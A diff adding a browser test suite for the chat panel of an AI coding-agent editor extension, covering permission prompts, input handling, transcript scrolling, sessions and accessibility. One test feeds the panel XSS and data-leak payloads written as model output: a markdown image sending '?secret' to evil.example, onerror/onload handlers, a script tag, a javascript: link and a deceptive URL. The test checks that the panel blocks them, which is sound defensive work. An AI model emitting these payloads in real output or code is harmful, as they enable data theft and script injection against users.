@@ -1,0 +1,579 @@
+// The panel in a real browser, driven as a person would, with a host that is played (`fakeHost.ts`).
+import { createRequire } from 'node:module';
+import { readFile } from 'node:fs/promises';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { AgentEventBody } from '../../../src/core/events/agentEvent';
+import { startPanelHarness } from './openPanel';
+import type { OpenPanel, PanelHarness } from './openPanel';
+import {
+  closing,
+  commandAsks,
+  commandDone,
+  commandRuns,
+  editAsks,
+  editDone,
+  opening,
+  start,
+} from './recordedRun';
+import type { ThemeName } from './themes';
+
+let harness: PanelHarness;
+let panel: OpenPanel;
+const externalRequests: string[] = [];
+
+beforeAll(async () => {
+  harness = await startPanelHarness();
+});
+afterAll(() => harness.close());
+afterEach(async () => {
+  // Holds for whatever a test did: the policy was kept, every message was valid, nothing was fetched from elsewhere.
+  expect(await panel.page.evaluate('violations')).toEqual([]);
+  expect(panel.host.rejected).toEqual([]);
+  expect(externalRequests.splice(0)).toEqual([]);
+  await panel.close();
+});
+
+async function open(...options: Parameters<PanelHarness['open']>): Promise<OpenPanel> {
+  panel = await harness.open(...options);
+  panel.page.on('request', (request) => {
+    if (!request.url().startsWith('http://127.0.0.1:')) externalRequests.push(request.url());
+  });
+  return panel;
+}
+
+const input = () => panel.page.locator('planwright-composer textarea');
+const focusedTag = () =>
+  panel.page.evaluate<string>('document.activeElement.tagName + "." + document.activeElement.className');
+const text = (value: string): AgentEventBody => ({ type: 'text_delta', text: value });
+
+describe('a run', () => {
+  it('shows prompt, answer, folded reads, the change, the output and the facts', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening);
+    await page.getByRole('button', { name: /Read 3 files, searched once/ }).waitFor();
+    await host.emit(...editAsks, ...editDone, ...commandAsks, ...commandRuns);
+    const added = await page.locator('.diff-line.added .diff-text').allTextContents();
+    expect(added).toEqual([
+      '  const cents = items.reduce((sum, item) => sum + Math.round(item.price * 100) * item.quantity, 0);',
+      '  return cents / 100;',
+    ]);
+    expect(await page.locator('pre.output').textContent()).toContain('adds prices to the cent');
+    await page.getByRole('button', { name: 'Background' }).click();
+    expect(host.last('tool/background')).toMatchObject({ toolId: 'bash-1' });
+    await host.emit(...commandDone, ...closing);
+    expect(await page.locator('.facts').textContent()).toContain('6 tool calls · 1 file changed');
+    expect(await page.locator('.gauge').getAttribute('title')).toContain('68.6k of 200.0k tokens');
+  });
+
+  it('folds an earlier run to its answer, and unfolds it', async () => {
+    const { page, host } = await open();
+    await host.emit(
+      ...opening,
+      ...editAsks,
+      ...editDone,
+      ...commandAsks,
+      ...commandRuns,
+      ...commandDone,
+      ...closing,
+    );
+    await host.emit({ ...start, runId: 'run-2' });
+    expect(await page.locator('.diff').count()).toBe(0);
+    await page.getByRole('button', { name: /6 tool calls/ }).click();
+    expect(await page.locator('.diff').count()).toBe(1);
+  });
+
+  it('is stopped with Escape and with the button', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening);
+    await input().focus();
+    await page.keyboard.press('Escape');
+    expect(host.posted.filter((message) => message.type === 'run/stop')).toHaveLength(1);
+    await page.getByRole('button', { name: 'Stop (Escape)' }).click();
+    expect(host.posted.filter((message) => message.type === 'run/stop')).toHaveLength(2);
+  });
+
+  it('asks for a snapshot when events are missing, and shows them then', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening);
+    host.fold(text('lost '));
+    await host.emit(text('words'));
+    await page.getByText('lost words').waitFor();
+    expect(host.last('snapshot/request')?.reason).toMatch(/^Expected event \d+, got \d+ to \d+\.$/);
+  });
+});
+
+describe('a question', () => {
+  it('never takes the focus, is reached on demand, and is allowed with Enter', async () => {
+    const { page, host } = await open();
+    await input().fill('half a senten');
+    await host.emit(...opening, ...editAsks);
+    await page.keyboard.type('ce');
+    expect(await input().inputValue()).toBe('half a sentence');
+    await host.send({ type: 'focus', target: 'question' });
+    await expect.poll(focusedTag).toContain('question');
+    // A key pressed the moment the card appears is not meant for it.
+    await page.waitForTimeout(450);
+    await page.keyboard.press('Enter');
+    expect(host.last('permission/answer')).toEqual({
+      type: 'permission/answer',
+      sessionId: 'session-1',
+      toolId: 'edit-1',
+      answer: { approved: true, remember: 'once' },
+    });
+    expect(await focusedTag()).toBe('TEXTAREA.');
+  });
+
+  it('is denied with Escape from the input, and only once', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, ...commandAsks);
+    await input().focus();
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('Escape');
+    expect(host.posted.filter((message) => message.type === 'permission/answer')).toEqual([
+      { type: 'permission/answer', sessionId: 'session-1', toolId: 'bash-1', answer: { approved: false } },
+    ]);
+    expect(host.last('run/stop')).toBeUndefined();
+  });
+
+  it('is denied with words for the model', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, ...commandAsks);
+    await page.getByRole('textbox', { name: 'Deny and say what to do instead' }).fill('use pnpm');
+    await page.keyboard.press('Enter');
+    expect(host.last('permission/answer')?.answer).toEqual({ approved: false, reason: 'use pnpm' });
+  });
+
+  it('shows the rule before it is kept for good', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, ...commandAsks);
+    await page.getByRole('button', { name: 'Always…' }).click();
+    await page.getByText('run exactly npm test without asking').waitFor();
+    expect(host.last('permission/answer')).toBeUndefined();
+    await page.getByRole('button', { name: 'Always allow' }).click();
+    expect(host.last('permission/answer')?.answer).toEqual({ approved: true, remember: 'always' });
+  });
+
+  it('offers nothing to remember where nothing may be remembered', async () => {
+    const { page, host } = await open();
+    const [asks] = commandAsks.slice(-1);
+    if (asks?.type !== 'confirmation_required') throw new Error('The recorded run asks last.');
+    await host.emit(...opening, ...commandAsks.slice(0, -1), {
+      ...asks,
+      details: { ...asks.details, remember: undefined },
+    });
+    expect(
+      await page
+        .locator('.question vscode-button')
+        .allTextContents()
+        .then((all) => all.map((name) => name.trim())),
+    ).toEqual(['Allow once', 'Deny']);
+  });
+
+  it('is answered by keyboard alone', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, ...commandAsks);
+    await host.send({ type: 'focus', target: 'question' });
+    await expect.poll(focusedTag).toContain('question');
+    // The command, then the buttons: Allow once, This session.
+    for (let presses = 0; presses < 3; presses++) await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    expect(host.last('permission/answer')?.answer).toEqual({ approved: true, remember: 'session' });
+  });
+});
+
+describe('the input', () => {
+  it('sends with Enter, breaks the line with Shift+Enter, and walks through what was sent', async () => {
+    const { page, host } = await open();
+    await input().fill('first');
+    await page.keyboard.press('Shift+Enter');
+    await page.keyboard.type('second line');
+    await page.keyboard.press('Enter');
+    await expect.poll(() => input().inputValue()).toBe('');
+    expect(host.last('prompt/submit')).toMatchObject({ text: 'first\nsecond line', attachments: [] });
+    await page.keyboard.press('ArrowUp');
+    expect(await input().inputValue()).toBe('first\nsecond line');
+    await page.keyboard.press('ArrowDown');
+    expect(await input().inputValue()).toBe('');
+  });
+
+  it('keeps a prompt that was refused, and says why', async () => {
+    const { page, host } = await open();
+    host.refusal = 'Choose a model first.';
+    await input().fill('Fix it');
+    await page.keyboard.press('Enter');
+    await page.getByText('Choose a model first.').waitFor();
+    expect(await input().inputValue()).toBe('Fix it');
+  });
+
+  it('steers a run with Enter and queues with Alt+Enter', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening);
+    await input().fill('also the docs');
+    await page.keyboard.press('Enter');
+    await expect.poll(() => host.last('prompt/steer')?.text).toBe('also the docs');
+    await expect.poll(() => input().inputValue()).toBe('');
+    await input().fill('then the changelog');
+    await page.keyboard.press('Alt+Enter');
+    await expect.poll(() => host.last('prompt/submit')?.text).toBe('then the changelog');
+    await host.emit({ type: 'steering_queued', id: 'q1', text: 'then the changelog', when: 'after_run' });
+    await page.getByRole('button', { name: 'Remove from the queue' }).click();
+    expect(host.last('queue/remove')).toMatchObject({ id: 'q1' });
+  });
+
+  it('edits an earlier prompt and sends it again from there', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, ...closing);
+    await page.locator('.prompt').hover();
+    await page.getByRole('button', { name: 'Edit and send again from here' }).click();
+    expect(await input().inputValue()).toBe(start.prompt);
+    await input().fill('Only explain it');
+    await page.keyboard.press('Enter');
+    await expect.poll(() => host.last('prompt/edit')).toMatchObject({ seq: 2, text: 'Only explain it' });
+    await expect.poll(() => page.getByText('Editing an earlier message').count()).toBe(0);
+  });
+
+  it('keeps the draft of each session over a reload and a switch', async () => {
+    const { page, host } = await open();
+    await input().fill('for session one');
+    await expect.poll(() => page.evaluate('sessionStorage.getItem("state")')).toContain('for session one');
+    await page.reload();
+    await expect.poll(() => input().inputValue()).toBe('for session one');
+    await host.send({ type: 'snapshot', state: { ...host.state, sessionId: 'session-2' }, access: 'owner' });
+    expect(await input().inputValue()).toBe('');
+    await host.sendSnapshot();
+    expect(await input().inputValue()).toBe('for session one');
+  });
+
+  it('takes a picture from the clipboard and sends it along', async () => {
+    const { page, host } = await open();
+    await page.evaluate(`{
+      const data = new DataTransfer();
+      data.items.add(new File([new Uint8Array([1, 2, 3])], 'shot.png', { type: 'image/png' }));
+      document.querySelector('textarea').dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
+    }`);
+    await page.getByText('shot.png').waitFor();
+    await input().fill('What is this?');
+    await page.keyboard.press('Enter');
+    await expect
+      .poll(() => host.last('prompt/submit')?.attachments)
+      .toEqual([{ name: 'shot.png', mediaType: 'image/png', data: 'AQID' }]);
+  });
+
+  it('switches mode and model', async () => {
+    const { page, host } = await open();
+    await page.getByRole('combobox', { name: 'Permission mode' }).click();
+    await page.getByRole('option', { name: 'edits' }).click();
+    expect(host.last('mode/set')?.mode).toBe('edits');
+    await page.getByRole('combobox', { name: 'Model', exact: true }).click();
+    await page.getByRole('option', { name: 'GPT-5' }).click();
+    expect(host.last('model/set')?.model).toBe('openai/gpt-5');
+    // The choice shown is the one the host confirms.
+    await host.emit(
+      { type: 'model_changed', model: 'openai/gpt-5' },
+      { type: 'mode_changed', mode: 'edits' },
+    );
+    await expect
+      .poll(() => page.evaluate('[...document.querySelectorAll("vscode-dropdown")].map((one) => one.value)'))
+      .toEqual(['edits', 'openai/gpt-5']);
+  });
+});
+
+describe('the transcript', () => {
+  const lines = (count: number): string =>
+    Array.from({ length: count }, (_value, index) => `line ${index}`).join('\n\n');
+  const scroll = () =>
+    panel.page.evaluate<{ top: number; rest: number }>(`{
+      const it = document.querySelector('planwright-transcript');
+      ({ top: it.scrollTop, rest: it.scrollHeight - it.scrollTop - it.clientHeight });
+    }`);
+
+  it('follows the end while the person is there, and lets them read elsewhere', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, { type: 'turn_start', turn: 2 }, text(lines(60)));
+    await expect.poll(async () => (await scroll()).rest).toBeLessThan(2);
+    await page.locator('planwright-transcript').hover();
+    await page.mouse.wheel(0, -500);
+    await page.getByRole('button', { name: 'End', exact: true }).waitFor();
+    const before = (await scroll()).top;
+    await host.emit(text(lines(40)), ...commandAsks);
+    expect((await scroll()).top).toBe(before);
+    await page.getByRole('button', { name: 'Waits for you' }).click();
+    await expect.poll(focusedTag).toContain('question');
+  });
+
+  it('opens a row without moving it', async () => {
+    const { page, host } = await open();
+    const reading = opening.slice(5);
+    await host.emit(
+      start,
+      { type: 'turn_start', turn: 1 },
+      text(lines(40)),
+      ...reading,
+      ...commandAsks,
+      ...commandRuns,
+    );
+    const row = page.getByRole('button', { name: /Read 3 files/ });
+    const before = await row.boundingBox();
+    await row.click();
+    await page.getByRole('button', { name: /Read src\/tax.js/ }).waitFor();
+    expect((await row.boundingBox())?.y).toBe(before?.y);
+  });
+
+  it('keeps a small part of a thousand runs in the document, and walks back to the first', async () => {
+    const { page, host } = await open();
+    for (let run = 0; run < 1_000; run++) {
+      const runId = `run-${run}`;
+      host.fold(
+        { ...start, prompt: `prompt ${run}`, runId },
+        { type: 'turn_start', turn: 1, runId },
+        { ...text(`answer ${run}`), runId },
+        {
+          type: 'end',
+          text: '',
+          stopReason: 'end',
+          usage: { promptTokens: 1, completionTokens: 1, totalTokens: 2 },
+          totalTokens: 2,
+          toolCallsCount: 0,
+          runId,
+        },
+      );
+    }
+    await host.sendSnapshot();
+    await page.locator('p', { hasText: 'answer 999' }).waitFor();
+    const rows = page.locator('.transcript-row');
+    expect(await rows.count()).toBeLessThanOrEqual(160);
+    await page.locator('planwright-transcript').hover();
+    for (let step = 0; step < 3; step++) {
+      await page.mouse.wheel(0, -20_000);
+      await page.waitForTimeout(150);
+    }
+    expect(await rows.count()).toBeLessThanOrEqual(160);
+    expect(await page.locator('p', { hasText: 'answer 999' }).count()).toBe(0);
+    await page.getByRole('button', { name: 'End', exact: true }).click();
+    await page.locator('p', { hasText: 'answer 999' }).waitFor();
+  });
+
+  it('draws a long answer that streams without drawing its beginning again', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, { type: 'turn_start', turn: 2 }, text('# Head\n\none\n\ntwo\n\nthree\n\n'));
+    await page.evaluate(
+      'globalThis.head = [...document.querySelectorAll(".markdown-block")].find((it) => it.textContent.includes("Head"))',
+    );
+    for (let step = 0; step < 20; step++) await host.emit(text(`word ${step} `));
+    await page.getByText('word 19').waitFor();
+    expect(await page.evaluate('globalThis.head.isConnected')).toBe(true);
+  });
+});
+
+describe('text of a model', () => {
+  it('can neither load nor lead anywhere by itself', async () => {
+    const { page, host } = await open();
+    const nasty = [
+      '![x](https://evil.example/?secret)',
+      '<img src="https://evil.example/b.png" onerror="globalThis.hacked = true">',
+      '<script>globalThis.hacked = true</script>',
+      '[click](javascript:globalThis.hacked=true) [real](https://github.com@evil.example/a)',
+      '<svg onload="globalThis.hacked = true"></svg>',
+      '- [ ] <iframe src="https://evil.example"></iframe>',
+      '`src/cart.js:41`',
+    ].join('\n\n');
+    await host.emit(...opening, { type: 'turn_start', turn: 2 }, text(nasty), ...closing.slice(-1));
+    await page.getByText('(evil.example)').first().waitFor();
+    expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
+    expect(
+      await page.locator('planwright-markdown :is(img, script, iframe, svg, [href], [src], [style])').count(),
+    ).toBe(0);
+    await page.getByRole('link', { name: 'real' }).click();
+    expect(host.last('link/open')?.url).toBe('https://github.com@evil.example/a');
+    await page.getByRole('link', { name: 'src/cart.js:41' }).focus();
+    await page.keyboard.press('Enter');
+    expect(host.last('file/open')).toEqual({ type: 'file/open', path: 'src/cart.js', line: 41 });
+    expect(page.url()).toMatch(/\/dark$/);
+  });
+
+  it('is copied from a code block as it stands', async () => {
+    const { page, host } = await open();
+    await host.emit(
+      ...opening,
+      { type: 'turn_start', turn: 2 },
+      text('```js\nconst a = "<b>";\n\nlet b;\n```\n'),
+      ...closing.slice(-1),
+    );
+    await page.getByRole('button', { name: 'Copy js code' }).click();
+    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('const a = "<b>";\n\nlet b;');
+  });
+});
+
+describe('around a run', () => {
+  it('offers what to do first', async () => {
+    const { page, host } = await open({
+      prepare: (fake) => {
+        fake.settings = { ...fake.settings, isSetUp: false, models: [] };
+      },
+    });
+    await page.getByRole('button', { name: 'Set API key…' }).click();
+    await page.getByRole('button', { name: "Use the editor's models" }).click();
+    await page.getByRole('button', { name: 'Try the demo' }).click();
+    expect(host.posted.map((message) => message.type).filter((type) => type.startsWith('setup/'))).toEqual([
+      'setup/setKey',
+      'setup/useEditorModels',
+      'setup/useDemo',
+    ]);
+  });
+
+  it('puts a suggestion into the input without sending it', async () => {
+    const { page, host } = await open();
+    await page.getByRole('button', { name: 'Review my changes' }).click();
+    expect(await input().inputValue()).toBe('Review my changes');
+    expect(host.last('prompt/submit')).toBeUndefined();
+  });
+
+  it('shows a failed run with what to do', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, {
+      type: 'error',
+      error: 'The key was refused.',
+      kind: 'auth',
+      retryable: false,
+      providerMessage: 'invalid x-api-key',
+      usage: { promptTokens: 0, completionTokens: 0, totalTokens: 0 },
+    });
+    await page.getByText('What the provider said').click();
+    await page.getByText('invalid x-api-key').waitFor();
+    await page.getByRole('button', { name: 'Retry' }).click();
+    await page.getByRole('button', { name: 'Set API key…' }).click();
+    await page.getByRole('button', { name: 'Show log' }).click();
+    expect(host.posted.slice(-3).map((message) => message.type)).toEqual([
+      'run/retry',
+      'setup/setKey',
+      'log/show',
+    ]);
+  });
+
+  it('goes on with an interrupted run, or discards it', async () => {
+    const { page, host } = await open();
+    await host.emit(...opening, ...commandAsks, ...commandRuns, {
+      type: 'run_interrupted',
+      uncertainToolIds: ['bash-1'],
+    });
+    await page.getByText('nobody knows how far it came').waitFor();
+    await page.getByRole('button', { name: 'Continue' }).click();
+    await page.getByRole('button', { name: 'Discard' }).click();
+    expect(host.posted.slice(-2).map((message) => message.type)).toEqual([
+      'interrupted/continue',
+      'interrupted/discard',
+    ]);
+  });
+
+  it('lists, searches, opens, renames and deletes sessions by keyboard', async () => {
+    const { page, host } = await open({
+      prepare: (fake) => {
+        fake.sessions = [
+          { sessionId: 'session-1', title: 'Fix the cart', updatedAt: 3, state: 'idle', isUnread: false },
+          { sessionId: 'session-2', title: 'Explain totals', updatedAt: 2, state: 'waiting', isUnread: true },
+        ];
+      },
+    });
+    await host.send({ type: 'focus', target: 'sessions' });
+    await page.getByRole('textbox', { name: 'Search sessions' }).waitFor();
+    await expect.poll(focusedTag).toContain('VSCODE-TEXT-FIELD');
+    await page.keyboard.type('totals');
+    await expect.poll(() => page.locator('.session-row').count()).toBe(1);
+    await page.keyboard.press('ArrowDown');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    await page.getByRole('textbox', { name: 'New title of Explain totals' }).fill('Totals');
+    await page.keyboard.press('Enter');
+    expect(host.last('session/rename')).toEqual({
+      type: 'session/rename',
+      sessionId: 'session-2',
+      title: 'Totals',
+    });
+    // The focus is back on the row; its actions come after it.
+    await expect.poll(focusedTag).toContain('session-open');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    expect(host.last('session/delete')).toEqual({ type: 'session/delete', sessionId: 'session-2' });
+    await page.getByRole('button', { name: /^Explain totals/ }).click();
+    expect(host.last('session/resume')).toEqual({ type: 'session/resume', sessionId: 'session-2' });
+    expect(await page.getByRole('dialog').count()).toBe(0);
+  });
+
+  it('lets a session of another window only be read', async () => {
+    const { page, host } = await open({
+      prepare: (fake) => {
+        fake.access = 'read_only';
+      },
+    });
+    await host.emit(...opening, ...commandAsks);
+    expect(await page.getByRole('button', { name: 'Allow once' }).count()).toBe(0);
+    expect(await page.locator('textarea').count()).toBe(0);
+    await page.keyboard.press('Escape');
+    expect(host.last('permission/answer')).toBeUndefined();
+    await page.getByRole('button', { name: 'Take over' }).click();
+    expect(host.last('session/takeOver')).toEqual({ type: 'session/takeOver', sessionId: 'session-1' });
+  });
+
+  it('tells a screen reader about questions and ends, not about words', async () => {
+    const { page, host } = await open();
+    const status = page.locator('planwright-panel > [aria-live=polite]');
+    await host.emit(...opening, { type: 'turn_start', turn: 2 }, text('one two three'));
+    expect(await status.textContent()).not.toContain('three');
+    await host.emit(...commandAsks);
+    expect(await status.textContent()).toContain('Waits for you: Run a command in the workspace folder');
+    await host.emit(...commandRuns, ...commandDone, ...closing);
+    expect(await status.textContent()).toContain('Done.');
+  });
+});
+
+describe('everywhere', () => {
+  const axePath = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
+
+  it.each(['dark', 'light', 'highContrast'] as const)(
+    'is accessible in the %s theme',
+    async (theme: ThemeName) => {
+      const { page, host, screenshot } = await open({ theme });
+      const axe = await readFile(axePath, 'utf8');
+      const problems = async (): Promise<string[]> => {
+        await page.evaluate(axe);
+        return page.evaluate<
+          string[]
+        >(`axe.run(document, { rules: { region: { enabled: false } } }).then((found) =>
+        found.violations.filter((one) => one.impact === 'serious' || one.impact === 'critical')
+          .flatMap((one) => one.nodes.map((node) => one.id + ': ' + node.html.slice(0, 160) + ' ' + node.failureSummary)))`);
+      };
+      await screenshot(`${theme}-1-empty`);
+      expect(await problems()).toEqual([]);
+      await host.emit(...opening, ...editAsks);
+      await screenshot(`${theme}-2-edit-asks`);
+      expect(await problems()).toEqual([]);
+      await host.emit(...editDone, ...commandAsks);
+      await screenshot(`${theme}-3-command-asks`);
+      await host.emit(...commandRuns);
+      await screenshot(`${theme}-4-running`);
+      await host.emit(...commandDone, ...closing);
+      await screenshot(`${theme}-5-done`);
+      expect(await problems()).toEqual([]);
+    },
+  );
+
+  it.each([240, 400, 1_000])('fits into %i pixels', async (width) => {
+    const { page, host, screenshot } = await open({ width });
+    await host.emit(...opening, ...editAsks, ...editDone, ...commandAsks);
+    await host.emit({
+      type: 'steering_queued',
+      id: 'q',
+      text: 'and then update the changelog and the notes',
+      when: 'after_run',
+    });
+    await screenshot(`width-${width}`);
+    // Code scrolls inside its own box; nothing else may stick out.
+    const outside = await page.evaluate<string[]>(`[...document.querySelectorAll('planwright-panel *')]
+      .filter((it) => it.closest('.diff-lines, pre, .visually-hidden, vscode-option') === null)
+      .filter((it) => it.getBoundingClientRect().right > innerWidth + 0.5)
+      .map((it) => it.tagName + '.' + it.className)`);
+    expect(outside).toEqual([]);
+    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(width);
+  });
+});
